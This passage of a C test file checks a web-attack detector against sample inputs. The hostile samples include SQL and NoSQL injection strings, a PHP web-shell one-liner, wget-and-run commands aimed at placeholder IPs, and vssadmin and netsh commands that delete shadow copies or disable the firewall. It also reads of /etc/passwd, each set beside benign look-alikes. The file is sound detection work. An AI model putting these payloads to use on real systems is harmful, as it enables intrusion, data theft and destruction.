    static const char bb[] = "[code]<?php system($_GET['c']); ?>[/code] thanks";
    cr_assert_str_eq(families_of(bb, FK_WS_TEXT), "");
    cr_assert_str_eq(families_of("[code]x[/code] <?php system($_GET['c']); ?>", FK_WS_TEXT),
                     "code");
}

/* A search syntax's quoted word and prose's dash are no sub-query; SELECT after a closed
 * string or an operator still is (the ninth held-out set). */
Test(webstruct, a_quoted_select_and_a_prose_dash_are_no_sub_query)
{
    cr_assert_not(sqli("methods:\"select\" or abstract:\"union\"", FK_WS_PARAM));
    cr_assert_not(sqli("/pluginfile.php/9/content/3/lecture 03 - select, join.pdf", FK_WS_PARAM));
    cr_assert(sqli("a' select 1", FK_WS_PARAM));
    cr_assert(sqli("1' - select 1", FK_WS_PARAM));
    cr_assert(sqli("1-(select 1)", FK_WS_PARAM));
}

/* A search's exact phrase at the head is no quote ending a string (the tenth held-out
 * set's "drop table" lang:ja); a quote that leaves SQL after it still is. */
/* A line break after one word starts a command line unless sentences follow it */
Test(webstruct, a_greeting_on_its_own_line_is_no_shell_break)
{
    static const char *const prose[] = {
        "Thanks!\nIt works now, but the build on the old machine still fails. Any idea?",
        "```ini\n[mysqld]\nslow_query_log = 1\n```\n\nworks for me with curl -x post -d "
        "@body.json. on windows the path is in the user's folder instead.",
    };
    for (size_t i = 0; i < sizeof prose / sizeof prose[0]; i++)
        cr_assert_not(fk_webstruct_text_breaks(prose[i], strlen(prose[i])) & FK_WS_BREAK_SHELL,
                      "%s", prose[i]);
    static const char *const commands[] = {"x\nid", "x\ncat /etc/passwd",
                                           "x\nwget http://192.0.2.1/s.sh -O /tmp/s; sh /tmp/s"};
    for (size_t i = 0; i < sizeof commands / sizeof commands[0]; i++)
        cr_assert(fk_webstruct_text_breaks(commands[i], strlen(commands[i])) & FK_WS_BREAK_SHELL,
                  "%s", commands[i]);
}

/* Wildcards spell the short names of system paths; a title's question marks do not */
Test(webstruct, wildcards_in_short_components_only)
{
    cr_assert(shell("/e\?\?/p\?\?s\?\?", FK_WS_PATH));
    cr_assert(shell("/?s?/?i?/c?t", FK_WS_PATH));
    cr_assert_not(shell("/wiki/what?_where?_when?", FK_WS_PATH));
    cr_assert_not(shell("/faq/how-do-i-reset-it?/why-not?/really?", FK_WS_PATH));
}

Test(webstruct, symbols_without_a_word)
{
    static const char *const symbols[] = {"'#Z<%(Ya^(_1", "\"'\"#0a;-Y-\"2", ")\"*(0)Z=('$b",
                                          "k9#Lm2$pQ!", "'--"};
    static const char *const words[] = {"' or 1=1#", "';id", "x$(sleep 5)",
                                        "admin'#",   "1;ls", "\" OR \"a\"=\"a"};
    EXPECT_TEST(fk_webstruct_symbols_only, symbols, true);
    EXPECT_TEST(fk_webstruct_symbols_only, words, false);
}

Test(webstruct, an_inline_picture_by_its_type_and_bytes)
{
    static const char *const pictures[] = {
        "data:image/png;base64,ivborw0kggoaaaansuheugaaafk",
        "data:image/jpeg;base64,/9j/4aaqskzjrgabaqeasabiaad",
        "data:image/gif;base64,r0lgodlhaqabaiaaaaaaap///yh5baeaaaaalaaaaaabaaeaaaibraa7",
    };
    static const char *const others[] = {
        "data:image/png;base64,pd9wahagcghwaw5mbygpoz8+",
        "data:text/html;base64,ivborw0kggoaaaansuheugaaafk",
        "data:image/svg+xml;base64,phn2zyb4bwxucz0i",
        "data:image/png,ivborw0kggo",
        "image/png;base64,ivborw0kggo",
    };
    EXPECT_TEST(fk_webstruct_image_data_url, pictures, true);
    EXPECT_TEST(fk_webstruct_image_data_url, others, false);
}

Test(webstruct, an_exact_phrase_is_no_quote_break)
{
    static const char phrase[] = "\"drop table\" lang:ja";
    cr_assert_not(fk_webstruct_text_breaks(phrase, strlen(phrase)) & FK_WS_BREAK_QUOTE);
    static const char *const breaks[] = {"\" or 1=1--", "\"; drop table users--",
                                         "x\" or \"1\"=\"1", "\"a'\" or 1=1", NULL};
    for (int i = 0; breaks[i]; i++)
        cr_assert(fk_webstruct_text_breaks(breaks[i], strlen(breaks[i])) & FK_WS_BREAK_QUOTE, "%s",
                  breaks[i]);
}

/* Probes taught by outside lists (docs/web-signatures.md, "Outside lists"): a clause
 * appended to an empty value, an absolute LDAP filter left for the application to close,
 * Windows commands named with their operation, a call inside a PHP string's ${...}, and
 * a system file under /etc or /proc written without its root. Prose with the same
 * words stays quiet. */
Test(webstruct, clause_probes_command_operations_and_rootless_system_files)
{
    cr_assert(sqli(" where 1=1 and 1=0--", FK_WS_PARAM));
    cr_assert(sqli(" having 1=1#", FK_WS_PARAM));
    cr_assert(sqli(" as x where 'a'='a", FK_WS_PARAM));
    cr_assert(sqli(" order by 5-- ", FK_WS_PARAM));
    cr_assert(sqli("order by 31337", FK_WS_PARAM));
    cr_assert(sqli("or true--", FK_WS_PARAM));
    cr_assert_not(sqli("where 2 + 2 = 4 in base ten", FK_WS_PARAM));
    cr_assert_not(sqli("where status = open", FK_WS_PARAM));
    cr_assert_not(sqli("order by 3 days", FK_WS_PARAM));
    cr_assert_not(sqli("or true love", FK_WS_PARAM));
    cr_assert_str_eq(families_of("*)(&", FK_WS_PARAM), "ldap");
    cr_assert_str_eq(families_of("fish)(&chips", FK_WS_PARAM), "");
    cr_assert(shell("; netsh firewall set opmode disable", FK_WS_PARAM));
    cr_assert(shell("& vssadmin delete shadows /all", FK_WS_PARAM));
    cr_assert(shell("x; sc create svc", FK_WS_PARAM));
    cr_assert(shell("& sleep 10 ", FK_WS_PARAM));
    cr_assert_not(shell("; netsh is a tool", FK_WS_PARAM));
    cr_assert_not(shell("tea; sc fans", FK_WS_PARAM));
    cr_assert_str_eq(families_of("{${sleep(20)}}", FK_WS_PARAM), "code");
    cr_assert_str_eq(families_of("${@print(\"x\")}", FK_WS_PARAM), "code");
    cr_assert_str_eq(families_of("${name} and ${count}", FK_WS_PARAM), "");
    /* a command's name opening a template's sentence: placeholders are no arguments */
    cr_assert_str_eq(families_of("hello ${user.name}, welcome", FK_WS_PARAM), "");
    cr_assert_str_eq(families_of("hello ${x} -v", FK_WS_PARAM), "rce");
    cr_assert_str_eq(families_of("etc/passwd", FK_WS_PARAM), "lfi");
    cr_assert_str_eq(families_of("proc/self/environ", FK_WS_PARAM), "lfi");
    cr_assert_str_eq(families_of("etc/passwords-manager", FK_WS_PARAM), "");
    cr_assert_str_eq(families_of("etcetera/passwd", FK_WS_PARAM), "");
    /* Spring Boot's endpoints that expose the process, not those monitoring reads */
    cr_assert_str_eq(families_of("/actuator/env", FK_WS_PATH), "sensitive");
    cr_assert_str_eq(families_of("/app/actuator/heapdump", FK_WS_PATH), "sensitive");
    cr_assert_str_eq(families_of("/actuator/gateway/routes", FK_WS_PATH), "sensitive");
    cr_assert_str_eq(families_of("/actuator/health", FK_WS_PATH), "");
    cr_assert_str_eq(families_of("/actuator/prometheus", FK_WS_PATH), "");
    cr_assert_str_eq(families_of("/docs/actuator/environment", FK_WS_PATH), "");
}

/* MongoDB's shell and JavaScript conditions in a $where, operators after a closed
 * string; PostgreSQL's niladic functions and COPY to files; include directives count as
 * evaluated code in free text. */
Test(webstruct, nosql_shell_javascript_conditions_and_postgres_files)
{
    cr_assert(sqli("db.injection.insert({success:1});", FK_WS_PARAM));
    cr_assert(sqli("1;db.getcollectionnames()", FK_WS_PARAM));
    cr_assert(sqli("|| 1==1", FK_WS_PARAM));
    cr_assert(sqli("';return 'a'=='a' && ''=='", FK_WS_PARAM));
    cr_assert(sqli("', $or: [ {}, { 'a':'a", FK_WS_PARAM));
    cr_assert(sqli("select current_user;", FK_WS_PARAM));
    cr_assert(sqli("copy t from '/etc/passwd';", FK_WS_PARAM));
    cr_assert(sqli("copy t to program 'id'", FK_WS_PARAM));
    cr_assert_not(sqli("db.example.com", FK_WS_PARAM));
    /* a whole filter document an API takes by design keeps to the operators that run code */
    cr_assert_not(sqli("{\"status\": \"a\", $or: [{\"qty\": 1}]}", FK_WS_PARAM));
    cr_assert_not(sqli("mydb.users.find(x)", FK_WS_PARAM));
    cr_assert_not(sqli("a || b == c", FK_WS_PARAM));
    cr_assert_not(sqli("x && 10 == 100", FK_WS_PARAM));
    cr_assert_not(sqli("copy text from 'the book'", FK_WS_PARAM));
    cr_assert_not(sqli("select current user", FK_WS_PARAM));
    cr_assert(sqli("backup database master to disk='\\\\10.0.0.5\\s\\x.bak'", FK_WS_PARAM));
    cr_assert_not(sqli("how to backup database to disk", FK_WS_PARAM));
    static const char include[] = "hi <!--#echo var=\"x\" -->";
    cr_assert(fk_webstruct_text_breaks(include, strlen(include)) & FK_WS_BREAK_CODE);
}

/* Any file under /etc named by a parameter, a drive written after a file URL's slash,
 * BSD's password database, shells' and rhosts' dotfiles, Apache's log without a dot;
 * a path keeps the listed /etc files only (a site may have its own etc folder). */
Test(webstruct, files_under_etc_drives_and_shell_dotfiles)
{
    cr_assert_str_eq(families_of("/etc/apt/sources.list", FK_WS_PARAM), "lfi");
    cr_assert_str_eq(families_of("/etc/master.passwd", FK_WS_PATH), "sensitive");
    cr_assert_str_eq(families_of("/c:/program files/app/x.ini", FK_WS_PARAM), "lfi");
    cr_assert_str_eq(families_of("/.cshrc", FK_WS_PARAM), "lfi");
    cr_assert_str_eq(families_of("/usr/local/apache2/logs/access_log", FK_WS_PARAM), "lfi");
    cr_assert_str_eq(families_of("/etc/", FK_WS_PARAM), "");
    cr_assert_str_eq(families_of("/etcetera/x", FK_WS_PARAM), "");
    cr_assert_str_eq(families_of("/static/etc/apt.css", FK_WS_PATH), "");
    cr_assert_str_eq(families_of("access_log", FK_WS_PARAM), "");
}

/* What a list of files an inclusion reads (SecLists' LFI-gracefulsecurity-linux) taught:
 * a parameter naming a file in the trees the system keeps for itself (hier(7)), a log by
 * its folder, a home folder's hidden file; and sqlmap's boolean probes that use a
 * comparison's truth as a number, and a tautology on USER. Site paths and prose with
 * the same words stay quiet. */
Test(webstruct, system_trees_home_dotfiles_and_comparisons_used_as_numbers)
{
    static const char *const files[] = {"/proc/stat",
                                        "/var/run/utmp",
                                        "/var/spool/cron/crontabs/root",
                                        "/usr/local/apache/logs",
                                        "/usr/local/pureftpd/etc/pureftpd.pdb",
                                        "/opt/tomcat/logs/catalina.out",
                                        "/opt/lsws/conf/httpd_conf.xml",
                                        "/logs/security_log",
                                        "/private/etc/squirrelmail/config/config.php",
                                        "~/.xinitrc",
                                        "~postgres/.psql_history",
                                        "/mysql/data/host.err",
                                        NULL};
    for (int i = 0; files[i]; i++)
        cr_assert_str_eq(families_of(files[i], FK_WS_PARAM), "lfi", "%s", files[i]);
    static const char *const quiet[] = {"/opt/backup/photos/2024", "/admin/logs",
                                        "/admin/audit_log",        "/private/messages",
                                        "/library/books",          "~/notes.txt",
                                        "/varieties/apples",       "/usr/share/app/templates",
                                        "/srv/app/uploads",        "/var/www/html/uploads/wso.php",
                                        "/var/lib/app/data",       NULL};
    for (int i = 0; quiet[i]; i++)
        cr_assert_str_eq(families_of(quiet[i], FK_WS_PARAM), "", "%s", quiet[i]);
    /* in a request path /var/ and /usr/ may be a site's own folders */
    cr_assert_str_eq(families_of("/usr/profile/settings", FK_WS_PATH), "");
    cr_assert(sqli("ELT(5731=5731,8213)", FK_WS_PARAM));
    cr_assert(sqli("7,MAKE_SET(5731=5732,7)", FK_WS_PARAM));
    cr_assert(sqli("(5731=5731)*7", FK_WS_PARAM));
    cr_assert(sqli("' or user like '%", FK_WS_PARAM));
    cr_assert(sqli("x' or current_user='admin", FK_WS_PARAM));
    cr_assert_not(sqli("(2+3)*4", FK_WS_PARAM));
    cr_assert_not(sqli("sum(a=1,2)", FK_WS_PARAM));
    cr_assert_not(sqli("ask the user or the admin", FK_WS_PARAM));
}

/* A broken-out string given a collation or a postfix null test and then cut off
 * (CRS 942120's training tests: SQLite's case-blind login, PostgreSQL's NOTNULL); an
 * apostrophe in prose goes on with words. */
Test(webstruct, collation_or_null_test_after_a_closed_string)
{
    cr_assert(sqli("user'collate nocase--", FK_WS_PARAM));
    cr_assert(sqli("user' collate utf8mb4_general_ci--", FK_WS_PARAM));
    cr_assert(sqli("' notnull --", FK_WS_PARAM));
    cr_assert(sqli("x' isnull", FK_WS_PARAM));
    cr_assert_not(sqli("it's collate time", FK_WS_PARAM));
    cr_assert_not(sqli("O'Brien notnull or not", FK_WS_PARAM));
}

/* A product's version written apart from its name ("news bot /2.1", a crawler's
 * User-Agent in SecLists' list of servers) is no path a command is given; a path is. */
Test(webstruct, a_version_after_a_blank_is_no_path)
{
    cr_assert_str_eq(families_of("mozilla/5.0 (compatible; news bot /2.1)", FK_WS_HEADER), "");
    cr_assert_str_eq(families_of("x; news bot /2.1", FK_WS_PARAM), "");
    cr_assert_str_eq(families_of("x; tail /srv/app/notes", FK_WS_PARAM), "rce");
    cr_assert_str_eq(families_of("x; ls /tmp", FK_WS_PARAM), "rce");
}

/* In a header, a command's name that is also a word, given a web address, is a
 * crawler's comment (SecLists' User-Agent fuzz list); a URL after a command that is no
 * word, or any shell syntax, still counts. */
Test(webstruct, a_crawlers_home_page_after_a_word_is_no_argument)
{
    cr_assert_str_eq(
        families_of("mozilla/4.0 (compatible; msie 5.0; windows me; link checker 2.x.xx "
                    "http://www.kyosoft.com)",
                    FK_WS_HEADER),
        "");
    cr_assert_str_neq(families_of("x; wget http://198.51.100.7/x.sh", FK_WS_HEADER), "");
    cr_assert_str_neq(families_of("x; echo http://a.example > /tmp/a", FK_WS_HEADER), "");
    cr_assert_str_eq(families_of("x; link checker http://a.example/x", FK_WS_PARAM), "rce");
}
